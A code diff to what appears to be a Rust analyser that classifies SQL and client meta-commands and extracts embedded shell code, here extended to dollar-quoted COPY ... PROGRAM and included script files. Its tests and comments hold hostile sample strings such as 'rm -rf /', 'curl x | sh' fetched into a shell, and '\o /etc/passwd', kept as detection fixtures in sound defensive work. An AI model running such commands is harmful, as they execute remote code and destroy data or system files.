@@ -193,8 +193,7 @@ fn tokens(text: &str) -> Vec<Tok<'_>> {
                 i = (j + 1).min(n);
             }
             b'$' if matches!(next, Some(b'$')) => {
-                out.push(Tok::Dollar);
-                i += 2;
+                i = dollar(text, i, i + 2, &mut out);
             }
             b'$' if next.is_some_and(|x| x.is_ascii_alphabetic() || x == b'_') => {
                 let mut j = i + 1;
@@ -202,8 +201,7 @@ fn tokens(text: &str) -> Vec<Tok<'_>> {
                     j += 1;
                 }
                 if b.get(j) == Some(&b'$') {
-                    out.push(Tok::Dollar);
-                    i = j + 1;
+                    i = dollar(text, i, j + 1, &mut out);
                 } else {
                     out.push(Tok::Word(&text[i..j]));
                     i = j;
@@ -264,6 +262,22 @@ fn tokens(text: &str) -> Vec<Tok<'_>> {
         );
     }
     out
+}
+
+/// A dollar-quote delimiter at `start..end`. After `PROGRAM` (`COPY t FROM PROGRAM $$curl
+/// x | sh$$`) the quoted text is a shell command, a string up to the closing delimiter;
+/// elsewhere (`DO $$ … $$`) it is SQL the block runs, read on as tokens. Returns where
+/// reading goes on.
+fn dollar<'s>(text: &'s str, start: usize, end: usize, out: &mut Vec<Tok<'s>>) -> usize {
+    let program = matches!(out.last(), Some(Tok::Word(w)) if w.eq_ignore_ascii_case("PROGRAM"));
+    if !program {
+        out.push(Tok::Dollar);
+        return end;
+    }
+    let tag = &text[start..end];
+    let close = text[end..].find(tag).map_or(text.len(), |p| end + p);
+    out.push(Tok::Str(&text[end..close]));
+    (close + tag.len()).min(text.len())
 }
 
 /// Verbs that start a clause wherever they stand (T-SQL needs no `;` between statements).
@@ -561,6 +575,7 @@ fn meta(m: &str, out: &mut Sink, v: &mut Verdict) {
         // mysql `\. file`: source.
         for f in words(rest) {
             out.path(Act::Read, f);
+            v.merge(unread_file(f));
         }
         v.write = true;
         return;
@@ -571,6 +586,7 @@ fn meta(m: &str, out: &mut Sink, v: &mut Verdict) {
         "i" | "ir" | "include" | "include_relative" => {
             for f in words(rest) {
                 out.path(Act::Read, f);
+                v.merge(unread_file(f));
             }
             v.write = true;
         }
@@ -610,6 +626,7 @@ fn line_command(l: &str, out: &mut Sink, v: &mut Verdict) {
         ".read" | "source" | ":r" => {
             if let Some(f) = args.first() {
                 out.path(Act::Read, f);
+                v.merge(unread_file(f));
             }
             v.write = true;
         }
@@ -692,6 +709,11 @@ mod tests {
             "EXPLAIN ANALYZE DELETE FROM t",
             "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec",
             ".restore backup.db",
+            // A script the text includes is read by its name, as one on the command line.
+            "\\i drop_all.sql",
+            ".read teardown.sql",
+            "source truncate_tables.sql",
+            "\\. wipe.sql",
         ] {
             assert_eq!(verdict(sql), "destroy", "{sql}");
         }
@@ -718,6 +740,8 @@ mod tests {
             "UPDATE t SET x = (SELECT y FROM u WHERE u.id = t.id) WHERE t.id > 5",
             "CALL cleanup()",
             "\\i schema.sql",
+            "source dump.sql",
+            ".read seed.sql",
             "BEGIN EXCLUSIVE; SELECT 1;",
             "begin immediate",
         ] {
@@ -757,12 +781,19 @@ mod tests {
     fn client_commands_name_files_and_shell_code() {
         let mut out = Sink::default();
         analyse(
-            "\\! rm -rf /\n.shell ls\nsystem echo hi\nCOPY t FROM PROGRAM 'curl x | sh'",
+            "\\! rm -rf /\n.shell ls\nsystem echo hi\nCOPY t FROM PROGRAM 'curl x | sh'\n;COPY t TO PROGRAM $$gzip > /tmp/t.gz$$; COPY u FROM PROGRAM $q$curl y | sh$q$; DO $$ BEGIN END $$",
             &mut out,
         );
         assert_eq!(
             out.scripts,
-            vec!["rm -rf /", "ls", "echo hi", "curl x | sh"]
+            vec![
+                "rm -rf /",
+                "ls",
+                "echo hi",
+                "curl x | sh",
+                "gzip > /tmp/t.gz",
+                "curl y | sh"
+            ]
         );
         let mut out = Sink::default();
         analyse("\\o /etc/passwd\n.read x.sql\nsource y.sql", &mut out);
